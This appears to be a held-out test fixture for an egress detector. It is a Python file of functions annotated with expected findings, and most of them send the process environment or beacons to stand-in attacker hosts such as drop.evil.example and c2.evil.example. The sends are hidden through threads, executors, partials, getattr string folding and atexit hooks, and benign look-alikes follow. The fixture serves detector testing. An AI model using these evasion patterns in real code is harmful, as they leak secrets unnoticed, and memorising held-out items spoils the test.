# Held-out evasion set: sends hidden by passing the sending function around as a value.
# Never executed. Each `# expect:` line annotates the next code line.
import asyncio
import atexit
import concurrent.futures
import functools
import multiprocessing
import os
import threading
from concurrent.futures import ThreadPoolExecutor
from urllib.request import urlopen

import requests

DROP = "https://drop.evil.example/u"
ENV = dict(os.environ)


def thread_target():
    # expect: egress host=drop.evil.example
    threading.Thread(target=requests.post, args=(DROP,), kwargs={"json": ENV}, daemon=True).start()


def thread_positional_target():
    # expect: egress host=203.0.113.10
    t = threading.Thread(None, requests.get, None, ("http://203.0.113.10/beacon",))
    t.start()


def timer_target():
    # expect: egress host=drop.evil.example
    threading.Timer(30.0, requests.post, args=[DROP], kwargs={"data": ENV}).start()


def process_target():
    # expect: egress host=drop.evil.example
    multiprocessing.Process(target=requests.put, args=(DROP, str(ENV))).start()


def map_over_urls():
    urls = ["https://a.evil.example/p", "https://b.evil.example/p"]
    # expect: egress
    list(map(requests.get, urls))


def map_urlopen():
    # expect: egress host=mirror.evil.example
    for body in map(urlopen, ["http://mirror.evil.example/stage"]):
        body.read()


def executor_submit():
    with ThreadPoolExecutor(max_workers=2) as pool:
        # expect: egress host=drop.evil.example
        pool.submit(requests.post, DROP, data=ENV)


def executor_map():
    with concurrent.futures.ThreadPoolExecutor() as ex:
        # expect: egress host=c2.evil.example
        ex.map(requests.get, ["https://c2.evil.example/task"])


def partial_send():
    beacon = functools.partial(requests.post, "https://c2.evil.example/hb")
    # expect: egress host=c2.evil.example
    beacon(json={"host": os.uname().nodename})


async def to_thread_send():
    # expect: egress host=drop.evil.example
    await asyncio.to_thread(requests.post, DROP, json=ENV)


async def run_in_executor_send():
    loop = asyncio.get_running_loop()
    # expect: egress host=203.0.113.11
    await loop.run_in_executor(None, requests.get, "http://203.0.113.11/cfg")


def handler_table(kind):
    handlers = {"up": requests.post, "down": requests.get}
    # expect: egress host=drop.evil.example
    handlers["up"](DROP, data=ENV)


def handler_list():
    senders = [requests.post]
    for send in senders:
        # expect: egress host=drop.evil.example
        send(DROP, json=ENV)


def getattr_folded():
    # expect: egress host=drop.evil.example
    getattr(requests, "po" + "st")(DROP, json=ENV)


def alias_then_call():
    ship = requests.post
    # expect: egress host=drop.evil.example
    ship(DROP, data=ENV)


class Reporter:
    transport = staticmethod(requests.post)

    def report(self):
        # expect: egress host=drop.evil.example
        self.transport(DROP, json=ENV)


def at_exit():
    # expect: egress host=drop.evil.example
    atexit.register(requests.post, DROP, data=ENV)


def lambda_body():
    # expect: egress host=lambda2.evil.example
    cb = lambda: requests.get("https://lambda2.evil.example/x")  # noqa: E731
    return cb


# ---- look-alikes: callables that send nothing ----


def benign_thread():
    # expect: none
    threading.Thread(target=print, args=("requests.post",)).start()


def benign_map():
    # expect: none
    return list(map(str.upper, ["requests.get", "urlopen"]))


def benign_submit():
    with ThreadPoolExecutor() as pool:
        # expect: none
        pool.submit(os.path.getsize, "/tmp/requests.post")


def benign_partial():
    # expect: none
    fmt = functools.partial("{}/{}".format, "https://example.invalid")
    return fmt("x")


def benign_getattr(obj):
    # expect: none
    return getattr(obj, "post" + "_init", None)


def benign_table():
    handlers = {"up": str.upper, "down": str.lower}
    # expect: none
    return handlers["up"]("https://drop.evil.example")
